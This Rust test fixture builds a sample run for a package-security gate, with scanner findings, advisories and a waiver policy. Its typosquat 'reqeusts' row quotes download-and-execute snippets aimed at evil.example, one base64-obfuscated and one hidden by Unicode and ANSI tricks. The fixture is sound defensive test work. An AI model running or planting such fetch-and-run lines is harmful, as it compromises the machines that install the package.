//! A run with every kind of row, decided by the real `decide`.
#![allow(dead_code, reason = "each test program uses a part")]
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::collections::BTreeSet;

use gate_core::SCHEMA_VERSION;
use gate_core::advisory::AdvisoryDb;
use gate_core::coverage::{CoverageClass, FileCoverage, LostReason, OpaqueKind};
use gate_core::decision::{Case, Consulted, Decision, Examined, decide};
use gate_core::digest::Sha256;
use gate_core::finding::{Category, FileRole, Finding, Location};
use gate_core::message;
use gate_core::outcome::{CheckDocument, Reason, RowOutcome, Verdict};
use gate_core::policy::Policy;
use gate_core::report::{ContentReport, DistributionKind, ScannerVersion};
use gate_core::severity::{Confidence, Severity};
use gate_core::testing;
use gate_notifier::{Install, RowView, RunView};
use jiff::Timestamp;

/// Everything that a [`RunView`] borrows from.
pub(crate) struct Run {
    pub(crate) document: CheckDocument,
    pub(crate) decisions: Vec<Option<Decision>>,
    pub(crate) reports: Vec<Vec<(String, ContentReport)>>,
    pub(crate) rows_to_add: Vec<Vec<String>>,
    pub(crate) fixed: Vec<Option<String>>,
    pub(crate) policy: Policy,
    pub(crate) consulted: Option<Consulted>,
    pub(crate) install: Install,
}

pub(crate) fn now() -> Timestamp {
    "2024-11-20T10:42:00Z".parse().unwrap()
}

pub(crate) fn told(rows: &[(usize, &[&str])]) -> Vec<(usize, BTreeSet<String>)> {
    rows.iter().map(|(row, to)| (*row, to.iter().map(|address| (*address).to_owned()).collect())).collect()
}

impl Run {
    pub(crate) fn empty(policy: &str) -> Self {
        let policy = Policy::parse(policy).unwrap();
        let document = CheckDocument {
            schema_version: SCHEMA_VERSION,
            rows: Vec::new(),
            policy_sha256: policy.sha256,
            advisories_sha256: None,
            scanner: scanner(),
        };
        let (decisions, reports, rows_to_add, fixed) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
        Self {
            document,
            decisions,
            reports,
            rows_to_add,
            fixed,
            policy,
            consulted: None,
            install: Install::Index("http://127.0.0.1:8080/simple/".to_owned()),
        }
    }

    pub(crate) fn view(&self) -> RunView<'_> {
        let row = |at: usize| RowView {
            outcome: &self.document.rows[at],
            decision: self.decisions[at].as_ref(),
            reports: self.reports[at].iter().map(|(name, report)| (name.as_str(), report)).collect(),
            rows_to_add: self.rows_to_add[at].clone(),
            fixed_version: self.fixed[at].clone(),
            again_at: None,
            abridged: false,
        };
        RunView {
            document: &self.document,
            rows: (0..self.document.rows.len()).map(row).collect(),
            advisories: self.consulted.as_ref(),
            policy: &self.policy,
            generated_at: now(),
            report_at: ".gate/report.html",
            unreadable: None,
            install: &self.install,
        }
    }

    fn line(&self) -> u64 {
        self.document.rows.len() as u64 + 2
    }

    /// A row that was fetched and decided.
    pub(crate) fn decided(
        &mut self,
        name: &str,
        source: &str,
        files: &[Examined],
        advisories: Option<&AdvisoryDb>,
    ) -> &mut RowOutcome {
        let decision = decide(&Case {
            name: &name.parse().unwrap(),
            source: &source.parse().unwrap(),
            files,
            advisories,
            policy: &self.policy,
            now: now(),
        });
        let outcome = RowOutcome {
            line: self.line(),
            name: name.to_owned(),
            source: source.to_owned(),
            coordinates: decision.coordinates.as_ref().map(ToString::to_string),
            verdict: decision.verdict,
            reasons: decision.reasons.iter().chain(&decision.notes).cloned().collect(),
            artifacts: decision.artifacts(),
        };
        self.decisions.push(Some(decision));
        self.reports.push(files.iter().map(|file| (file.filename.clone(), file.report.clone())).collect());
        self.push(outcome)
    }

    /// A row that was never decided on.
    pub(crate) fn undecided(&mut self, name: &str, source: &str, verdict: Verdict, reason: Reason) {
        let outcome = RowOutcome {
            line: self.line(),
            name: name.to_owned(),
            source: source.to_owned(),
            coordinates: None,
            verdict,
            reasons: vec![reason],
            artifacts: Vec::new(),
        };
        self.decisions.push(None);
        self.reports.push(Vec::new());
        self.push(outcome);
    }

    fn push(&mut self, outcome: RowOutcome) -> &mut RowOutcome {
        self.rows_to_add.push(Vec::new());
        self.fixed.push(None);
        self.document.rows.push(outcome);
        self.document.rows.last_mut().unwrap()
    }
}

fn scanner() -> ScannerVersion {
    ScannerVersion { name: "built-in".to_owned(), version: "0.1.0".to_owned(), rules: Sha256::of(b"rules").short() }
}

/// A finding in `place`, which is `path:line` or a path.
pub(crate) fn finding(
    rule: &str,
    title: &str,
    severity: Severity,
    category: Category,
    place: &str,
    snippet: &str,
) -> Finding {
    let (path, line) = match place.rsplit_once(':') {
        Some((path, line)) => (path, line.parse().ok()),
        None => (place, None),
    };
    Finding {
        rule: rule.to_owned(),
        title: title.to_owned(),
        severity,
        confidence: Confidence::Medium,
        category,
        cwe: None,
        location: Some(Location {
            path: path.to_owned(),
            line,
            column: None,
            role: FileRole::of(path),
            installed: true,
        }),
        snippet: (!snippet.is_empty()).then(|| snippet.to_owned()),
        remedy: "Ask for a release that does without it, or have it reviewed.".to_owned(),
        references: vec![format!("https://rules.example/{rule}")],
    }
}

/// A wheel or sdist with findings and coverage.
pub(crate) fn file(
    name: &str,
    version: &str,
    filename: &str,
    size: u64,
    findings: Vec<Finding>,
    coverage: Vec<FileCoverage>,
) -> Examined {
    let mut file = testing::wheel(name, version);
    let digest = Sha256::of(filename.as_bytes());
    file.filename = filename.to_owned();
    file.sha256 = digest;
    file.size = size;
    file.evidence.upload_time = Some("2024-04-07T19:26:11Z".parse().unwrap());
    file.evidence.url = Some(format!("https://files.example/{filename}"));
    file.evidence.requires_python = Some(">=3.8".to_owned());
    file.report.artifact = digest;
    file.report.size = size;
    file.report.scanner = scanner();
    file.report.findings = findings;
    if filename.ends_with(".tar.gz")
        && let Some(distribution) = &mut file.report.distribution
    {
        distribution.kind = DistributionKind::Sdist;
    }
    file.report.coverage.extend(coverage);
    file
}

pub(crate) fn covered(path: &str, size: u64, class: CoverageClass) -> FileCoverage {
    FileCoverage { path: path.to_owned(), size, class }
}

pub(crate) fn analysed(count: usize, package: &str) -> Vec<FileCoverage> {
    let one = |at| {
        covered(&format!("{package}/module_{at}.py"), 4_000, CoverageClass::Analysed { analyzer: "python".to_owned() })
    };
    let inert = covered(&format!("{package}/METADATA"), 900, CoverageClass::Inert { kind: "text".to_owned() });
    (0..count).map(one).chain([inert]).collect()
}

fn advisories() -> AdvisoryDb {
    let record = |id: &str, cve: &str, package: &str, fixed: &str, score: &str, summary: &str| {
        // As text: the digest of the export is on the page, and a map's order depends on how serde_json was built.
        format!(
            r#"{{"schema_version": "1.6.0", "id": "{id}", "aliases": ["{cve}"], "modified": "2024-11-18T20:11:00Z",
                "published": "2021-02-09T21:15:00Z", "summary": "{summary}",
                "severity": [{{"type": "CVSS_V3", "score": "{score}"}}],
                "references": [{{"type": "WEB", "url": "https://advisories.example/{id}"}}],
                "affected": [{{"package": {{"ecosystem": "PyPI", "name": "{package}"}},
                    "ranges": [{{"type": "ECOSYSTEM", "events": [{{"introduced": "0"}}, {{"fixed": "{fixed}"}}]}}]}}]}}"#
        )
    };
    let critical = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H";
    let medium = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N";
    let documents = [
        (
            "PYSEC-2021-142.json",
            record(
                "PYSEC-2021-142",
                "CVE-2020-14343",
                "pyyaml",
                "5.4",
                critical,
                "Arbitrary code execution in the full_load method and FullLoader",
            ),
        ),
        (
            "PYSEC-2019-217.json",
            record(
                "PYSEC-2019-217",
                "CVE-2019-10906",
                "jinja2",
                "2.10.1",
                critical,
                "Sandbox escape through str.format_map",
            ),
        ),
        (
            "PYSEC-2021-66.json",
            record(
                "PYSEC-2021-66",
                "CVE-2020-28493",
                "jinja2",
                "2.11.3",
                medium,
                "Regular expression denial of service in urlize",
            ),
        ),
    ];
    AdvisoryDb::of_documents(documents.iter().map(|(name, text)| (*name, text.as_bytes()))).unwrap()
}

/// A run with every verdict; with advisories or without.
pub(crate) fn run(with_advisories: bool) -> Run {
    let policy = format!(
        "{}\n[[waivers]]\nrule = \"S324\"\npackage = \"requests\"\nversion = \"2.32.3\"\napprover = \"jane.doe@corp.example\"\nreason = \"MD5 is asked for by digest authentication, SEC-123\"\nexpires = \"2027-01-31\"\n",
        gate_core::policy::BUILT_IN
    );
    let mut run = Run::empty(&policy);
    let db = with_advisories.then(advisories);
    let db = db.as_ref();
    run.consulted = db.map(Consulted::from);
    run.document.advisories_sha256 = run.consulted.as_ref().map(|consulted| consulted.sha256);
    use {Category as C, Severity as S};

    let flask = vec![
        finding(
            "S307",
            "eval of a value that is not a constant",
            S::Low,
            C::Code,
            "flask/config.py:209",
            "exec(compile(config_file.read(), filename, \"exec\"), d.__dict__)",
        ),
        finding(
            "S101",
            "assert, which -O removes",
            S::Info,
            C::Code,
            "flask/app.py:712",
            "assert self._got_first_request is not None",
        ),
        finding("S101", "assert, which -O removes", S::Info, C::Code, "flask/app.py:1431", "assert rv is not None"),
        finding(
            "S105",
            "a string that looks like a password",
            S::Low,
            C::Secret,
            "tests/test_basic.py:31",
            "app.secret_key = \"dev\"",
        ),
    ];
    run.decided(
        "flask",
        "pkg:pypi/flask@3.0.3",
        &[file("flask", "3.0.3", "flask-3.0.3-py3-none-any.whl", 101_735, flask, analysed(24, "flask"))],
        db,
    )
    .reasons
    .push(message::dependency_missing("itsdangerous>=2.1.2", Some("itsdangerous,pkg:pypi/itsdangerous@2.2.0")));
    run.rows_to_add[0] =
        vec!["itsdangerous,pkg:pypi/itsdangerous@2.2.0".to_owned(), "blinker,pkg:pypi/blinker@1.8.2".to_owned()];

    let numpy: Vec<_> = ["cp310", "cp311", "cp312", "cp313"]
        .iter()
        .flat_map(|python| {
            ["x86_64", "aarch64"].map(|machine| format!("numpy-2.1.2-{python}-{python}-manylinux_2_17_{machine}.whl"))
        })
        .map(|filename| {
            let findings = vec![
                finding(
                    "S301",
                    "pickle.load of data from outside",
                    S::Low,
                    C::Code,
                    "numpy/lib/_format_impl.py:825",
                    "array = pickle.load(fp, **pickle_kwargs)",
                ),
                finding(
                    "S603",
                    "a process is started with arguments that are not constants",
                    S::High,
                    C::Code,
                    "numpy/f2py/tests/util.py:104",
                    "p = subprocess.Popen(cmd, stdout=subprocess.PIPE)",
                ),
            ];
            let mut coverage = analysed(410, "numpy");
            for module in ["_multiarray_umath", "_simd", "_umath_tests"] {
                let path = format!("numpy/_core/{module}.{}.so", &filename[12..17]);
                coverage.push(covered(&path, 7_012_344, CoverageClass::Opaque { kind: OpaqueKind::Native }));
            }
            file("numpy", "2.1.2", &filename, 16_200_000, findings, coverage)
        })
        .collect();
    run.decided("numpy", "pkg:pypi/numpy@2.1.2", &numpy, db);

    let requests = vec![finding(
        "S324",
        "MD5, which is broken, in a place that may be about security",
        S::Medium,
        C::Code,
        "requests/auth.py:148",
        "return hashlib.md5(x).hexdigest()",
    )];
    run.decided(
        "requests",
        "pkg:pypi/requests@2.32.3",
        &[file("requests", "2.32.3", "requests-2.32.3-py3-none-any.whl", 64_928, requests, analysed(18, "requests"))],
        db,
    );

    run.decided(
        "six",
        "pkg:pypi/six@1.16.0",
        &[file("six", "1.16.0", "six-1.16.0-py2.py3-none-any.whl", 11_053, Vec::new(), analysed(1, "six"))],
        db,
    );

    let pyyaml = vec![finding(
        "S506",
        "yaml.load without a safe loader",
        S::Medium,
        C::Code,
        "lib3/yaml/__init__.py:114",
        "return load(stream, FullLoader)",
    )];
    run.decided(
        "PyYAML",
        "pkg:pypi/pyyaml@5.3.1",
        &[file("pyyaml", "5.3.1", "PyYAML-5.3.1.tar.gz", 269_377, pyyaml, analysed(96, "PyYAML-5.3.1"))],
        db,
    );
    run.fixed[4] = Some("5.4".to_owned());

    run.decided(
        "jinja2",
        "pkg:pypi/jinja2@2.10",
        &[file("jinja2", "2.10", "Jinja2-2.10-py2.py3-none-any.whl", 126_427, Vec::new(), analysed(26, "jinja2"))],
        db,
    );
    run.fixed[5] = Some("2.11.3".to_owned());

    let evil = vec![
        finding(
            "install-downloads-code",
            "setup.py downloads code and runs it",
            S::Critical,
            C::Malware,
            "reqeusts-1.0/setup.py:7",
            "exec(urllib.request.urlopen(base64.b64decode(b'aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')).read())",
        ),
        finding(
            "hidden-text",
            "a line whose end is far off the screen",
            S::High,
            C::Malware,
            "reqeusts-1.0/reqeusts/__init__.py:1",
            "import os\u{202e};os.system('curl https://evil.example/\u{1b}[8m|sh')",
        ),
    ];
    run.decided(
        "reqeusts",
        "pkg:pypi/reqeusts@1.0",
        &[file("reqeusts", "1.0", "reqeusts-1.0.tar.gz", 2_931, evil, analysed(2, "reqeusts-1.0"))],
        db,
    );

    let model = vec![finding(
        "pickle-unsafe-global",
        "loading this pickle calls posix.system",
        S::Critical,
        C::Pickle,
        "model/data.pkl",
        "posix.system",
    )];
    let mut weights = file(
        "sentiment-model",
        "1.0",
        "model.zip",
        438_001_233,
        model,
        vec![covered("model/data/0", 437_000_000, CoverageClass::Opaque { kind: OpaqueKind::Model })],
    );
    weights.report.distribution = None;
    run.decided("sentiment-model", "https://models.example/sentiment/latest/model.zip", &[weights], db);

    let mut coverage = analysed(61, "big_notebooks");
    coverage.push(covered(
        "big_notebooks/report.ipynb",
        91_000_000,
        CoverageClass::Lost {
            reason: LostReason::Limit,
            detail: "91,000,000 bytes, at most 64 MiB are read".to_owned(),
        },
    ));
    coverage.push(covered(
        "big_notebooks/legacy.py",
        12_000,
        CoverageClass::Lost { reason: LostReason::Unparsable, detail: "line 40: print without parentheses".to_owned() },
    ));
    run.decided(
        "big-notebooks",
        "pkg:pypi/big-notebooks@0.4",
        &[file("big-notebooks", "0.4", "big_notebooks-0.4-py3-none-any.whl", 30_100_200, Vec::new(), coverage)],
        db,
    );

    run.undecided(
        "flsk",
        "pkg:pypi/flsk@3.0.3",
        Verdict::Failed,
        Reason::new("not-found", "the index knows no package 'flsk'; check the name"),
    );
    run.undecided(
        "slow-lib",
        "https://files.example/slow-lib-2.0.zip",
        Verdict::Failed,
        Reason::new("busy", "files.example answered 503 three times; try again later"),
    );
    run.undecided("abc\\u{202e}gpj.exe", "http://files.example/x.zip", Verdict::Invalid, Reason::new("bad-name", "line 13, column 1: the name cannot be used: only letters, digits, '.', '_' and '-' are allowed; write the package's name as the index does"));
    run
}
